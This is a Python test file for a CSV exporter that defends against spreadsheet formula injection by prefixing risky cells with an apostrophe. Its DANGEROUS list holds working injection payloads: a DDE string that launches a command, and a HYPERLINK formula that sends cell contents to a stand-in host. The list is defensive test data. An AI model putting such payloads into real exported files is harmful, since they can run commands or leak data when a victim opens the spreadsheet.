"""A table is safe to open in a spreadsheet, and gives back exactly what was put in."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from macros.exporting.cells import csv_text
from macros.exporting.fields import Kind
from macros.exporting.tables import Column
from tests.exporting.reading_back import raw, table


def _column(kind: Kind = "text", name: str = "words") -> Column:
    return Column(name, kind, "Words.", (name,))


DANGEROUS = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"Press me")',
    "+441632960123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''@SUM(1)",
)
HARMLESS = ("", "Luton", "'Tis", "a=b", "a, b; c", 'says "no"', "1 - 2", "’=1", "' =1", "a\r\n=b")


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_has_an_apostrophe_in_front(text: str) -> None:
    written = csv_text([_column()], [[text]])
    assert raw(written)[0]["words"] == f"'{text}"
    assert table(written)[0]["words"] == text


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_is_as_it_is(text: str) -> None:
    assert raw(csv_text([_column()], [[text]]))[0]["words"] == text


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\r\n＝ab,;\"£ ")), min_size=1))
def test_whatever_is_put_in_comes_back_and_nothing_begins_a_formula(texts: list[str]) -> None:
    written = csv_text([_column()], [texts])
    assert [row["words"] for row in table(written)] == texts
    assert [row["words"] for row in raw(written) if row["words"][:1] in tuple("=+-@\t\r\n＝")] in ([], [""] * texts.count(""))


def test_a_sign_that_opens_a_new_cell_elsewhere_stays_inside_its_own() -> None:
    """Some spreadsheets take a semicolon for the end of a cell; OWASP asks for quotes around every one."""
    assert csv_text([_column()], [["a;=1+1", 'b","=1+1']]) == '"words"\r\n"a;=1+1"\r\n"b"",""=1+1"\r\n'


def test_numbers_stay_numbers_and_nothing_stays_nothing() -> None:
    columns = [_column("pounds", "amount"), _column("yes or no", "said"), _column("whole number", "count")]
    written = csv_text(columns, [["-944", None], [True, False], [6, None]])
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["amount", "said", "count"], ["-944", "true", "6"], ["", "false", ""]]


def test_a_table_without_rows_has_its_headings() -> None:
    assert csv_text([_column()], [[]]) == '"words"\r\n'
